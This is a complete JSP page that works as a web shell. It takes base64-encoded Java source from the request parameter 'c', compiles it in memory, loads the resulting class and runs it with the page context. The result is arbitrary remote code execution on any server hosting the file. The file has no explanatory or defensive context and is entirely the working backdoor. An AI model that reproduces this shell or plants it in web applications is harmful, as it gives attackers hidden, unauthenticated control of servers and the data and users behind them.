<%@ page import="javax.tools.*,java.util.*,java.io.*,java.net.URI" %>
<%!
    static class Src extends SimpleJavaFileObject {
        String code;
        Src(String n, String c) { super(URI.create("string:///" + n + ".java"), Kind.SOURCE); code = c; }
        public CharSequence getCharContent(boolean b) { return code; }
    }
    static class Out extends SimpleJavaFileObject {
        ByteArrayOutputStream bos = new ByteArrayOutputStream();
        Out(String n) { super(URI.create("bytes:///" + n), Kind.CLASS); }
        public OutputStream openOutputStream() { return bos; }
    }
    static class L extends ClassLoader {
        L(ClassLoader p) { super(p); }
        Class<?> d(String n, byte[] b) { return super.defineClass(n, b, 0, b.length); }
    }
%>
<%
    String code = new String(java.util.Base64.getDecoder().decode(request.getParameter("c")), "UTF-8");
    JavaCompiler jc = ToolProvider.getSystemJavaCompiler();
    final Out[] holder = new Out[1];
    JavaFileManager fm = new ForwardingJavaFileManager<StandardJavaFileManager>(jc.getStandardFileManager(null, null, null)) {
        public JavaFileObject getJavaFileForOutput(Location l, String n, JavaFileObject.Kind k, FileObject s) { holder[0] = new Out(n); return holder[0]; }
    };
    jc.getTask(null, fm, null, null, null, Arrays.asList(new Src("Payload", code))).call();
    Class<?> c = new L(getClass().getClassLoader()).d("Payload", holder[0].bos.toByteArray());
    c.getMethod("run", Object.class).invoke(c.newInstance(), pageContext);
%>
